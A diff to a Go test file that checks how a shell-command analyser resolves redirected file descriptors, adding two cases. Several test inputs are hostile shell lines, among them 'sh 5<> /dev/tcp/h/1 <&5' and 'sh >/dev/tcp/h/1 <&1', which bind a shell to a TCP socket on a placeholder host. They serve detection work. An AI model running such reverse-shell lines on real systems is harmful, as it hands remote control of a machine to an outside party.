@@ -12,6 +12,8 @@ func TestNumberedDescriptors(t *testing.T) {
 		{"put in place of standard input", "exec 3< f; exec <&3; sh", []string{"exec 3<f", "exec <&3 [file f]", "sh [file f]"}},
 		{"of a process", "exec 3< <(echo rm x); sh <&3", []string{"echo rm x", "exec 3<?", "sh <&3 [pipe echo]"}},
 		{"a socket, both ways", "sh 5<> /dev/tcp/h/1 <&5", []string{"sh 5<>/dev/tcp/h/1 <&5 [file /dev/tcp/h/1]"}},
+		{"a socket, opened for writing", "sh >/dev/tcp/h/1 <&1", []string{"sh >/dev/tcp/h/1 <&1 [file /dev/tcp/h/1]"}},
+		{"a file for writing", "sh >f <&1", []string{"sh >f <&1 [file ?]"}},
 		{"a file, both ways, which may have been written", "exec 5<> f; sh <&5", []string{"exec 5<>f", "sh <&5 [file ?]"}},
 		{"closed", "exec 3< f; exec 3<&-; sh <&3", []string{"exec 3<f", "exec 3<&-", "sh <&3 [file ?]"}},
 		{"for writing", "exec 3< f; exec 3> g; sh <&3", []string{"exec 3<f", "exec 3>g", "sh <&3 [file ?]"}},
